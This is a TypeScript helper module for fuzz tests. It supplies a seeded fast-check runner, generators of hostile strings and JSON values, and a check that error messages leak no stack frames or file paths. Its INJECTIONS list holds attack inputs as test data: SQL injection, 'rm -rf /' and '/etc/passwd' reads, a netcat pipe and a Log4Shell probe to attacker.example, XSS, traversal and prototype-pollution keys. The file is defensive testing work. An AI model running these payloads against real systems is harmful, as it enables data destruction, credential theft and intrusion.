/**
 * What the fuzz tests share: one fixed seed (overridable to explore), a runner that names the seed
 * in every failure, hostile strings and values, and the checks every answer to bad input must pass
 * (no stack trace, no file path).
 *
 * Explore beyond the fixed seed with `FUZZ_SEED=<n> FUZZ_RUNS=<multiplier> npx vitest run test/fuzz`;
 * a failure prints the seed and path to replay it.
 */
import fc from 'fast-check';
import { PROJECT_ROOT } from '../helpers/paths.js';

/** The seed every property runs with, unless FUZZ_SEED overrides it. */
export const SEED = Number(process.env.FUZZ_SEED ?? 20261130);
const RUNS_FACTOR = Math.max(1, Number(process.env.FUZZ_RUNS ?? 1));

/** Runs a property with the fixed seed; on failure the error names the seed, the path and the counterexample. */
export async function fuzz<T>(
  property: fc.IAsyncPropertyWithHooks<T> | fc.IPropertyWithHooks<T>,
  numRuns: number,
): Promise<void> {
  const params = { seed: SEED, numRuns: Math.round(numRuns * RUNS_FACTOR), endOnFailure: false };
  try {
    await fc.assert(property as fc.IAsyncProperty<T>, params);
  } catch (error) {
    // fast-check's message has the seed and path; say how to replay the whole file too.
    // Huge counterexamples (deep or long values) are cut: the seed and path replay them whole.
    const message = (error instanceof Error ? error.message : String(error))
      .split('\n')
      .map((line) =>
        line.length > 2000 ? `${line.slice(0, 2000)}… (${line.length - 2000} more characters)` : line,
      )
      .join('\n');
    throw new Error(`fuzz failure (FUZZ_SEED=${SEED} replays it)\n${message}`, { cause: error });
  }
}

// ---------------------------------------------------------------------------------------------
// Strings
// ---------------------------------------------------------------------------------------------

/** Strings people put where they should not: injection, traversal, markup, format strings. */
export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker.example 4444',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  '%00',
  '%s%s%s%n',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, on purpose
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '\r\nSet-Cookie: injected=1',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  '-1',
  '1e309',
] as const;

/** Unicode that breaks naive code: lone surrogates, NUL, bidi overrides, zero-width, emoji, BOM. */
export const UNICODE_EDGES = [
  '\ud800',
  '\udfff',
  'a\ud83dz',
  '\u0000',
  'a\u0000b',
  '\u200f',
  '\u202e',
  '\u202egnp.exe',
  '\u2066\u2069',
  '\u200b',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '😀',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  'é',
  'e\u0301',
  'Ω',
  '\u0085',
  '\u2028\u2029',
  '\t',
  '\r\n',
  '\u001b[31m',
  '𝕳𝖆𝖓𝖉𝖔𝖋𝖋',
  'ﷺ',
] as const;

/** One lone UTF-16 surrogate (fast-check's own string units never produce them). */
export const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));

/** A short hostile string: random code points mixed with known-bad pieces. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
  { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNICODE_EDGES) },
  {
    weight: 2,
    arbitrary: fc
      .array(
        fc.oneof(
          fc.constantFrom(...INJECTIONS, ...UNICODE_EDGES),
          loneSurrogate,
          fc.string({ unit: 'binary-ascii', maxLength: 6 }),
        ),
        { minLength: 1, maxLength: 5 },
      )
      .map((parts) => parts.join('')),
  },
  { weight: 1, arbitrary: fc.constant('') },
);

/** Object keys, including the ones that reach prototypes. */
export const nastyKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 8 }) },
  { weight: 2, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'valueOf') },
  { weight: 2, arbitrary: nastyString },
);

/** A long string (well past every field limit) with a hostile piece in it. */
export const longString = (minLength: number, maxLength: number): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.integer({ min: minLength, max: maxLength }),
      nastyString,
      fc.constantFrom('a', 'é', '😀', '\u0000'),
    )
    .map(([length, piece, fill]) => {
      const body = fill.repeat(Math.ceil(length / fill.length)).slice(0, length);
      return body.slice(0, Math.floor(length / 2)) + piece + body.slice(Math.floor(length / 2));
    });

// ---------------------------------------------------------------------------------------------
// JSON-like values
// ---------------------------------------------------------------------------------------------

/**
 * Any JSON value with hostile keys and strings; `__proto__` keys are own properties (as JSON.parse
 * makes them), built with Object.fromEntries so no prototype is touched.
 */
export const nastyJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.double(),
    fc.integer(),
    fc.constantFrom(0, -0, Number.MAX_SAFE_INTEGER, 1e308, -1e308, 5e-324),
    nastyString,
    fc.array(tie('value'), { maxLength: 4 }),
    fc
      .array(fc.tuple(nastyKey, tie('value')), { maxLength: 4 })
      .map((entries) => Object.fromEntries(entries) as unknown),
  ),
})).value;

/** A JSON object (never an array or scalar) with hostile keys and values. */
export const nastyObject: fc.Arbitrary<Record<string, unknown>> = fc
  .array(fc.tuple(nastyKey, nastyJson), { maxLength: 5 })
  .map((entries) => Object.fromEntries(entries) as Record<string, unknown>);

/** JSON text nested `depth` levels deep, as objects or arrays (JSON.parse reads it; naive recursion does not). */
export function deepJsonText(depth: number, kind: 'object' | 'array' | 'mixed' = 'mixed'): string {
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i++) {
    const asObject = kind === 'object' || (kind === 'mixed' && i % 2 === 0);
    open += asObject ? '{"a":' : '[';
    close = (asObject ? '}' : ']') + close;
  }
  return `${open}1${close}`;
}

/** Anything at all that JSON can carry, or not: undefined, functions-free values, sparse shapes. */
export const anyValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: nastyJson },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom(undefined, Number.NaN, Number.POSITIVE_INFINITY, -0) },
);

// ---------------------------------------------------------------------------------------------
// What answers must never contain
// ---------------------------------------------------------------------------------------------

const STACK_LINE = /^\s*at (?:async )?\S.*(?:\(|:\d+)/m;
const FILE_PATH = /(?:file:\/\/|node_modules|\.(?:ts|js|mjs|cjs):\d+)/;

/**
 * Why a text shown to a caller leaks internals (a stack frame or a source path), or undefined.
 * `paths: false` for documents served on purpose (a runbook may name node_modules).
 */
export function leak(text: string, options: { paths?: boolean } = {}): string | undefined {
  if (STACK_LINE.test(text)) return `a stack frame: ${STACK_LINE.exec(text)?.[0]}`;
  if (options.paths === false) return undefined;
  if (FILE_PATH.test(text)) return `a source path: ${FILE_PATH.exec(text)?.[0]}`;
  if (text.includes(PROJECT_ROOT)) return 'the project folder';
  if (/\b(?:TypeError|RangeError|ReferenceError|SyntaxError): /.test(text)) return 'a raw JavaScript error';
  return undefined;
}
